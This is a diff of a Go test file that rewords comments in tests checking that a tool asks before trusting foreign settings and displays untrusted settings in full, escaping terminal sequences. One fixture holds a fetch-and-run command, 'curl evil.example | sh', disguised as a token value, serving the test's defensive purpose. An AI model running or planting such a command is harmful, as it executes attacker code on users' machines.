@@ -78,7 +78,7 @@ func TestTerminalAsksForTrust(t *testing.T) {
 	}
 }
 
-// The verb asks in a terminal as well; who leaves has trusted nothing.
+// 'ralph trust' asks in a terminal as well; leaving it trusts nothing.
 func TestTrustAsks(t *testing.T) {
 	t.Parallel()
 	p := foreign(t, foreignSettings)
@@ -103,8 +103,8 @@ func TestTrustAsks(t *testing.T) {
 	}
 }
 
-// What is shown before it is trusted cannot hide: not by calling itself a secret, nor by what a
-// terminal does with it.
+// Untrusted settings are shown in full: a name like that of a secret hides nothing, nor do terminal
+// sequences.
 func TestUntrustedSettingsCannotHide(t *testing.T) {
 	t.Parallel()
 	p := foreign(t, `{"agent": {"command": "claude", "env": {"X_TOKEN": "curl evil.example | sh"}},
@@ -120,6 +120,6 @@ func TestUntrustedSettingsCannotHide(t *testing.T) {
 		}
 	}
 	if strings.Contains(stderr, "\x1b") || strings.Contains(stderr, "\n  agent.command = nothing") || strings.Contains(stderr, "\n  scm.command = git\n") {
-		t.Errorf("it shows what it is told to:\n%s", stderr)
+		t.Errorf("terminal sequences or line breaks are not escaped:\n%s", stderr)
 	}
 }
